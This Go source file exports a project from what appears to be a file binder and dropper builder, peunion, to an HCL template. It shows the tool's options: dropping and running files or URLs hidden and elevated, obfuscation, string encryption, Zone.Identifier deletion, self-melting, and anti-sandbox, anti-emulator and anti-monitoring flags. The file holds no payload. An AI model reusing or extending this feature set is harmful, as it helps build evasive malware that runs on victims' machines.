package hcltemplate

import (
	"context"
	"fmt"
	"path/filepath"

	"github.com/hashicorp/hcl/v2/hclwrite"
	"github.com/zclconf/go-cty/cty"

	"github.com/specialistvlad/peunion/internal/ctxlog"
	"github.com/specialistvlad/peunion/internal/fsutil"
	"github.com/specialistvlad/peunion/internal/project"
)

// Save exports p to path. The project's save location and dirty flag are
// not touched: a template is an export, not the project's document.
func Save(ctx context.Context, p *project.Project, path string) error {
	abs, err := filepath.Abs(path)
	if err != nil {
		return fmt.Errorf("resolve template path %q: %w", path, err)
	}
	dir := filepath.Dir(abs)
	src, err := Export(p, dir)
	if err != nil {
		return err
	}
	if err := fsutil.WriteFileAtomic(dir, filepath.Base(abs), src); err != nil {
		return fmt.Errorf("save template: %w", err)
	}
	ctxlog.FromContext(ctx).Debug("Template saved.", "path", abs, "items", p.Len())
	return nil
}

// Export renders p as a formatted template with every attribute spelled
// out. Paths are written relative to dir with forward slashes. Enum values
// without a name cannot be expressed and fail the export.
func Export(p *project.Project, dir string) ([]byte, error) {
	w := &writer{dir: dir}
	f := hclwrite.NewEmptyFile()
	root := f.Body()

	build := root.AppendNewBlock(blockBuild, nil).Body()
	w.enum(build, "platform", p.Platform())
	w.enum(build, "manifest", p.Manifest())
	build.SetAttributeValue("icon", cty.StringVal(w.path(p.IconPath())))
	w.enum(build, "obfuscation", p.Obfuscation())
	build.SetAttributeValue("string_encryption", cty.BoolVal(p.StringEncryption()))
	build.SetAttributeValue("string_literal_encryption", cty.BoolVal(p.StringLiteralEncryption()))
	build.SetAttributeValue("delete_zone_id", cty.BoolVal(p.DeleteZoneID()))
	build.SetAttributeValue("melt", cty.BoolVal(p.Melt()))
	build.AppendNewline()
	asm := build.AppendNewBlock(blockAssembly, nil).Body()
	asm.SetAttributeValue("title", cty.StringVal(p.AssemblyTitle()))
	asm.SetAttributeValue("product", cty.StringVal(p.AssemblyProduct()))
	asm.SetAttributeValue("copyright", cty.StringVal(p.AssemblyCopyright()))
	asm.SetAttributeValue("version", cty.StringVal(p.AssemblyVersion()))

	for _, it := range p.Items() {
		root.AppendNewline()
		switch v := it.(type) {
		case *project.FileItem:
			body := root.AppendNewBlock(blockFile, []string{w.path(v.SourcePath())}).Body()
			body.SetAttributeValue("compress", cty.BoolVal(v.Compress()))
			body.SetAttributeValue("encrypt", cty.BoolVal(v.Encrypt()))
			w.drop(body, v)
		case *project.UrlItem:
			w.drop(root.AppendNewBlock(blockURL, []string{v.URL()}).Body(), v)
		case *project.MessageBoxItem:
			body := root.AppendNewBlock(blockMessageBox, nil).Body()
			body.SetAttributeValue("title", cty.StringVal(v.Title()))
			body.SetAttributeValue("text", cty.StringVal(v.Text()))
			w.enum(body, "buttons", v.Buttons())
			w.enum(body, "icon", v.Icon())
		default:
			return nil, fmt.Errorf("export template: unsupported item type %T", it)
		}
	}

	if w.err != nil {
		return nil, w.err
	}
	return hclwrite.Format(f.Bytes()), nil
}

type namedEnum interface {
	fmt.Stringer
	Valid() bool
}

type writer struct {
	dir string
	err error
}

func (w *writer) enum(body *hclwrite.Body, attr string, v namedEnum) {
	if !v.Valid() {
		if w.err == nil {
			w.err = fmt.Errorf("export template: %s has no name for value %s", attr, v)
		}
		return
	}
	body.SetAttributeValue(attr, cty.StringVal(v.String()))
}

func (w *writer) path(p string) string {
	return filepath.ToSlash(fsutil.MakeRelative(p, w.dir))
}

func (w *writer) drop(body *hclwrite.Body, d project.Droppable) {
	body.SetAttributeValue("name", cty.StringVal(d.Name()))
	w.enum(body, "drop_location", d.DropLocation())
	w.enum(body, "drop_action", d.DropAction())
	body.SetAttributeValue("run_as_elevated", cty.BoolVal(d.RunAsElevated()))
	body.SetAttributeValue("command_line", cty.StringVal(d.CommandLine()))
	body.SetAttributeValue("hidden", cty.BoolVal(d.Hidden()))
	body.SetAttributeValue("anti_sandbox", cty.BoolVal(d.AntiSandbox()))
	body.SetAttributeValue("anti_network_monitor", cty.BoolVal(d.AntiNetworkMonitor()))
	body.SetAttributeValue("anti_process_monitor", cty.BoolVal(d.AntiProcessMonitor()))
	body.SetAttributeValue("anti_emulator", cty.BoolVal(d.AntiEmulator()))
}
